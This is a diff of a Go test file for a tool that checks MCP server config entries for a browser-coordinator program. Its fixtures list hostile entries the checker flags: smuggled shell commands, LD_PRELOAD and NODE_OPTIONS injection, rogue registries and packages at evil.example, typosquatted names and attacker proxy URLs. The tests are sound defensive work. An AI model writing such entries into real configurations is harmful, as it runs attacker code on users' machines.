@@ -73,7 +73,8 @@ func TestHostileEntries(t *testing.T) {
 	}{
 		{"coordinator", mcp, nil, nil, ""},
 		{"coordinator", nil, nil, nil, ""},
-		{"coordinator", []string{"mcp", "--caps", "pdf,vision", "--headed", "--viewport=800x600", "-v"}, m{"BROWSER_COORDINATOR_CAPS": "pdf", "LANG": "C"}, nil, ""},
+		{"coordinator", []string{"mcp", "--caps", "pdf,vision", "--headed", "--viewport=800x600", "-v"},
+			m{"BROWSER_COORDINATOR_CAPS": "pdf", "LANG": "C"}, nil, ""},
 		{filepath.Join(bin, "coordinator"), mcp, nil, nil, ""},
 		{"npx", []string{"-y", "browser-coordinator", "mcp"}, nil, nil, ""},
 		{"npx", []string{"--yes", "browser-coordinator@1.2.3-beta.1", "mcp"}, nil, nil, ""},
@@ -84,7 +85,8 @@ func TestHostileEntries(t *testing.T) {
 		{"coordinator", []string{"mcp", "--headed", "--", "./evil.sh"}, nil, nil, "-- ./evil.sh"},
 		{"coordinator", []string{"run", "--", "sh", "-c", "evil"}, nil, nil, "run -- sh -c evil"},
 		{"sh", []string{"-c", "coordinator mcp"}, nil, nil, `sh -c "coordinator mcp"`},
-		{"sh", []string{"-c", "evil; exec coordinator mcp", "coordinator", "mcp"}, nil, nil, `sh -c "evil; exec coordinator mcp" coordinator mcp`},
+		{"sh", []string{"-c", "evil; exec coordinator mcp", "coordinator", "mcp"}, nil, nil,
+			`sh -c "evil; exec coordinator mcp" coordinator mcp`},
 		{"env", []string{"LD_PRELOAD=./x.so", "coordinator", "mcp"}, nil, nil, "env LD_PRELOAD=./x.so coordinator mcp"},
 		{"node", []string{"./evil.js", "coordinator", "mcp"}, nil, nil, "node ./evil.js"},
 		{"coordinator mcp -- evil", nil, nil, nil, `"coordinator mcp -- evil"`},
@@ -103,28 +105,36 @@ func TestHostileEntries(t *testing.T) {
 		// Another package.
 		{"npx", []string{"browser-coordinator@npm:evil", "mcp"}, nil, nil, "browser-coordinator@npm:evil"},
 		{"npx", []string{"browser-coordinator@file:./evil", "mcp"}, nil, nil, "browser-coordinator@file:./evil"},
-		{"npx", []string{"browser-coordinator@github:evil/evil", "mcp"}, nil, nil, "browser-coordinator@github:evil/evil"},
-		{"npx", []string{"browser-coordinator@https://evil.example/x.tgz"}, nil, nil, "browser-coordinator@https://evil.example/x.tgz"},
+		{"npx", []string{"browser-coordinator@github:evil/evil", "mcp"}, nil, nil,
+			"browser-coordinator@github:evil/evil"},
+		{"npx", []string{"browser-coordinator@https://evil.example/x.tgz"}, nil, nil,
+			"browser-coordinator@https://evil.example/x.tgz"},
 		{"npx", []string{"browser-coordinator@canary"}, nil, nil, "browser-coordinator@canary"},
-		{"npx", []string{"-y", "-p", "evil", "browser-coordinator", "mcp"}, nil, nil, "-p evil browser-coordinator mcp"},
-		{"npx", []string{"--registry=https://evil.example", "browser-coordinator"}, nil, nil, "--registry=https://evil.example browser-coordinator"},
+		{"npx", []string{"-y", "-p", "evil", "browser-coordinator", "mcp"}, nil, nil,
+			"-p evil browser-coordinator mcp"},
+		{"npx", []string{"--registry=https://evil.example", "browser-coordinator"}, nil, nil,
+			"--registry=https://evil.example browser-coordinator"},
 		{"npx", []string{"browser-cordinator", "mcp"}, nil, nil, "browser-cordinator"},
 		{"npx", []string{"browser-coordinatοr", "mcp"}, nil, nil, `"browser-coordinat\u03bfr"`},
 		{"npx", []string{"@evil/browser-coordinator", "mcp"}, nil, nil, "@evil/browser-coordinator"},
 		{"./npx", []string{"browser-coordinator", "mcp"}, nil, nil, "./npx"},
 		{"bin/npx", []string{"browser-coordinator", "mcp"}, nil, nil, "bin/npx"},
-		{"npx", []string{"browser-coordinator", "mcp", "--executable", "./evil.sh"}, nil, nil, "--executable ./evil.sh"},
+		{"npx", []string{"browser-coordinator", "mcp", "--executable", "./evil.sh"}, nil, nil,
+			"--executable ./evil.sh"},
 
 		// A flag that starts, loads or lets in something.
 		{"coordinator", []string{"mcp", "--executable", "./evil.sh"}, nil, nil, "--executable ./evil.sh"},
 		{"coordinator", []string{"mcp", "--executable=/tmp/evil"}, nil, nil, "--executable=/tmp/evil"},
 		{"coordinator", []string{"--executable", "./evil.sh"}, nil, nil, "--executable ./evil.sh"},
-		{"coordinator", []string{"mcp", "--caps", "--executable", "--executable", "./evil.sh"}, nil, nil, "--executable ./evil.sh"},
+		{"coordinator", []string{"mcp", "--caps", "--executable", "--executable", "./evil.sh"}, nil, nil,
+			"--executable ./evil.sh"},
 		{"coordinator", []string{"mcp", "--profile", "./profile"}, nil, nil, "--profile ./profile"},
-		{"coordinator", []string{"mcp", "--proxy-server", "http://evil.example"}, nil, nil, "--proxy-server http://evil.example"},
+		{"coordinator", []string{"mcp", "--proxy-server", "http://evil.example"}, nil, nil,
+			"--proxy-server http://evil.example"},
 		{"coordinator", []string{"mcp", "--attach", "wss://evil.example"}, nil, nil, "--attach wss://evil.example"},
 		{"coordinator", []string{"mcp", "--debugging-port=9222"}, nil, nil, "--debugging-port=9222"},
-		{"coordinator", []string{"mcp", "--allow-origin", "https://evil.example"}, nil, nil, "--allow-origin https://evil.example"},
+		{"coordinator", []string{"mcp", "--allow-origin", "https://evil.example"}, nil, nil,
+			"--allow-origin https://evil.example"},
 		{"coordinator", []string{"mcp", "--output-dir", "/home/you"}, nil, nil, "--output-dir /home/you"},
 		{"coordinator", []string{"mcp", "--new-flag", "evil"}, nil, nil, "--new-flag evil"},
 		{"coordinator", []string{"mcp", "evil"}, nil, nil, "evil"},
@@ -133,10 +143,14 @@ func TestHostileEntries(t *testing.T) {
 		{"coordinator", mcp, m{"LD_PRELOAD": "./evil.so"}, nil, "LD_PRELOAD=./evil.so"},
 		{"coordinator", mcp, m{"DYLD_INSERT_LIBRARIES": "./evil.dylib"}, nil, "DYLD_INSERT_LIBRARIES=./evil.dylib"},
 		{"coordinator", mcp, m{"PATH": "./bin"}, nil, "PATH=./bin"},
-		{"npx", []string{"browser-coordinator"}, m{"NODE_OPTIONS": "--require ./evil.js"}, nil, `"NODE_OPTIONS=--require ./evil.js"`},
-		{"npx", []string{"browser-coordinator"}, m{"npm_config_registry": "https://evil.example"}, nil, "npm_config_registry=https://evil.example"},
-		{"coordinator", mcp, m{"BROWSER_COORDINATOR_BROWSER": "./evil.sh"}, nil, "BROWSER_COORDINATOR_BROWSER=./evil.sh"},
-		{"coordinator", mcp, m{"BROWSER_COORDINATOR_ATTACH": "wss://evil.example"}, nil, "BROWSER_COORDINATOR_ATTACH=wss://evil.example"},
+		{"npx", []string{"browser-coordinator"}, m{"NODE_OPTIONS": "--require ./evil.js"}, nil,
+			`"NODE_OPTIONS=--require ./evil.js"`},
+		{"npx", []string{"browser-coordinator"}, m{"npm_config_registry": "https://evil.example"}, nil,
+			"npm_config_registry=https://evil.example"},
+		{"coordinator", mcp, m{"BROWSER_COORDINATOR_BROWSER": "./evil.sh"}, nil,
+			"BROWSER_COORDINATOR_BROWSER=./evil.sh"},
+		{"coordinator", mcp, m{"BROWSER_COORDINATOR_ATTACH": "wss://evil.example"}, nil,
+			"BROWSER_COORDINATOR_ATTACH=wss://evil.example"},
 		{"coordinator", mcp, m{"LANG": "C", "lang": "C"}, nil, "lang=C"},
 		{"coordinator", mcp, nil, m{"cwd": "./evil"}, `"cwd: \"./evil\""`},
 		{"coordinator", mcp, nil, m{"envFile": ".env"}, `"envFile: \".env\""`},
@@ -170,7 +184,8 @@ func TestHostileEntries(t *testing.T) {
 				t.Errorf("%s: %s is not vouched for: %+v", id, text, d)
 			case c.foreign != "" && (s.Works() || d.Health == Works || rows[row][2] == "works"):
 				t.Errorf("%s: %s is vouched for", id, text)
-			case c.foreign != "" && (!strings.Contains(d.Text, c.foreign) || !strings.Contains(rows[row][2], c.foreign)):
+			case c.foreign != "" && (!strings.Contains(d.Text, c.foreign) ||
+				!strings.Contains(rows[row][2], c.foreign)):
 				t.Errorf("%s: %s: %q is not shown in %q", id, text, c.foreign, d.Text)
 			}
 			if err := os.Remove(file); err != nil {
@@ -232,6 +247,24 @@ func TestSeveralFiles(t *testing.T) {
 		if err != nil || s.Works() || !strings.Contains(h.Diagnose(Project, s).Text, other) {
 			t.Errorf("with %s: %+v, %v", other, s, err)
 		}
+
+		// One that works by itself does no harm, also to the user's own entry.
+		write(t, filepath.Join(workspace, other), written(t, h, "coordinator", []string{"mcp", "--caps", "pdf"}, nil,
+			nil))
+		user, _ := h.file(User, workspace)
+		write(t, user, written(t, h, "coordinator", []string{"mcp"}, nil, nil))
+		for _, scope := range h.Scopes() {
+			if s, err := h.Inspect(scope, workspace); err != nil || !s.Works() {
+				t.Errorf("%s with an entry that works in %s: %+v, %v", scope, other, s, err)
+			}
+		}
+
+		// The file with the entry is the one that counts.
+		write(t, filepath.Join(workspace, "opencode.json"), "{}")
+		if s, err := h.Inspect(Project, workspace); err != nil || s.File != filepath.Join(workspace, other) ||
+			!slices.Contains(s.Args, "pdf") {
+			t.Errorf("alone in %s: %+v, %v", other, s, err)
+		}
 	}
 }
 
@@ -250,7 +283,8 @@ func TestPartsOfOneEntry(t *testing.T) {
 	} {
 		write(t, filepath.Join(workspace, "opencode.json"), `{"mcp": {"browser-coordinator": `+part+`}}`)
 		s, err := h.Inspect(Project, workspace)
-		if d := h.Diagnose(Project, s); err != nil || s.Works() || d.Health != Doubtful || !strings.Contains(d.Text, want) {
+		if d := h.Diagnose(Project, s); err != nil || s.Works() || d.Health != Doubtful ||
+			!strings.Contains(d.Text, want) {
 			t.Errorf("%s in the project: %+v, %v", part, d, err)
 		}
 		s, err = h.Inspect(User, workspace)
@@ -303,7 +337,8 @@ func TestUsersOwnEntry(t *testing.T) {
 		more  m
 		works bool
 	}{
-		{[]string{"mcp", "--profile", "/home/you/profile", "--proxy-server", "http://proxy.example"}, m{"BROWSER_COORDINATOR_BROWSER": "/usr/bin/chromium"}, m{"startup_timeout_sec": 20}, true},
+		{[]string{"mcp", "--profile", "/home/you/profile", "--proxy-server", "http://proxy.example"},
+			m{"BROWSER_COORDINATOR_BROWSER": "/usr/bin/chromium"}, m{"startup_timeout_sec": 20}, true},
 		{[]string{"mcp", "--executable", "./evil.sh"}, nil, nil, false},
 		{[]string{"mcp", "--", "sh"}, nil, nil, false},
 		{[]string{"mcp"}, m{"LD_PRELOAD": "/x.so"}, nil, false},
@@ -327,9 +362,13 @@ func TestMasked(t *testing.T) {
 		env     map[string]any
 		want    string
 	}{
-		{"coordinator", []string{"serve", "ghp_" + secret, "--caps", "AKIA" + secret, "pass=" + secret}, nil, "starts coordinator … … … … …, which is not its MCP server"},
-		{"coordinator", []string{"mcp", "--attach", "wss://x/" + secret, "--profile=" + secret, "--" + secret, "mcp"}, map[string]any{"TOKEN": secret}, "starts coordinator mcp --attach … --profile=… … … TOKEN=…. This is not from the coordinator: --attach … --profile=… … … TOKEN=…"},
-		{"sh", []string{"-c", "TOKEN=" + secret + " coordinator"}, nil, "starts sh … …. This is not from the coordinator: sh … …"},
+		{"coordinator", []string{"serve", "ghp_" + secret, "--caps", "AKIA" + secret, "pass=" + secret}, nil,
+			"starts coordinator … … … … …, which is not its MCP server"},
+		{"coordinator", []string{"mcp", "--attach", "wss://x/" + secret, "--profile=" + secret, "--" + secret, "mcp"},
+			map[string]any{"TOKEN": secret}, "starts coordinator mcp --attach … --profile=… … … TOKEN=…. This is not " +
+				"from the coordinator: --attach … --profile=… … … TOKEN=…"},
+		{"sh", []string{"-c", "TOKEN=" + secret + " coordinator"}, nil,
+			"starts sh … …. This is not from the coordinator: sh … …"},
 		{"coordinator --token " + secret, nil, nil, "starts …, and there is no such program"},
 	} {
 		write(t, file, written(t, h, c.command, c.args, c.env, map[string]any{}))
